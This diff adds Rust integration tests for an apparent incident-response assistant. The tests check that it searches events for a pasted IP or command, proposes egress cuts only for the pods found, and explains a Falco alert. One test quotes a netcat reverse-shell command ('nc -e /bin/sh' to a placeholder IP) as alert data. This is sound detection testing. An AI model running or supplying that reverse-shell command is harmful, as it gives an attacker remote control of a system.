@@ -158,3 +158,45 @@ async fn validate_that_checks_the_exception_written_in_an_earlier_turn() {
     assert_eq!(tools(&checked), vec!["validate_exception"]);
     assert_eq!(checked.steps[0].arguments["yaml"].as_str(), Some(yaml.as_str()), "the exception just written");
 }
+
+#[tokio::test]
+async fn after_a_search_for_a_pasted_value_them_means_the_pods_it_found() {
+    let sessions = tempfile::tempdir().expect("tempdir");
+    let orchestrator = demo_orchestrator(sessions.path()).await;
+    let mut session = None;
+
+    let search = ask(&orchestrator, &mut session, "which pods talked to 198.51.100.23?").await;
+    assert_eq!(tools(&search), vec!["search_events"]);
+    let places = search.steps[0].output["found_in"].as_array().expect("places");
+    let mut found: Vec<&str> = places.iter().filter_map(|place| place["pod"].as_str()).collect();
+    found.sort_unstable();
+    assert!(found.len() >= 2, "{found:?}");
+    for pod in &found {
+        assert!(search.answer.contains(pod), "the answer names {pod}");
+    }
+
+    let cut = ask(&orchestrator, &mut session, "cut egress for all of them").await;
+    assert!(tools(&cut).contains(&"propose_response_action"), "{:?}", tools(&cut));
+    let proposal = cut.steps.iter().find(|step| step.tool == "propose_response_action").expect("proposal");
+    let proposed = proposal.arguments["scope"].as_str().expect("scope");
+    for pod in &found {
+        assert!(proposed.contains(pod), "{pod} is proposed: {proposed}");
+    }
+    assert!(!proposed.contains("gitlab-runner"), "only the pods the search found: {proposed}");
+}
+
+#[tokio::test]
+async fn a_pasted_command_line_is_searched_whole_and_explained() {
+    let sessions = tempfile::tempdir().expect("tempdir");
+    let orchestrator = demo_orchestrator(sessions.path()).await;
+    let mut session = None;
+
+    let search = ask(&orchestrator, &mut session, "where did `apt-get install -y vim-tiny` run").await;
+    assert_eq!(tools(&search), vec!["search_events"]);
+    assert_eq!(search.steps[0].arguments["query"], "\"apt-get install -y vim-tiny\"");
+    assert!(search.answer.contains("postgres-0"), "{}", search.answer);
+
+    let explain = ask(&orchestrator, &mut session, "why did falco flag nc -e /bin/sh 203.0.113.9 9001 there?").await;
+    assert_eq!(tools(&explain), vec!["explain_event"], "{}", explain.answer);
+    assert_eq!(explain.steps[0].output["rule"], "Netcat Remote Code Execution in Container");
+}
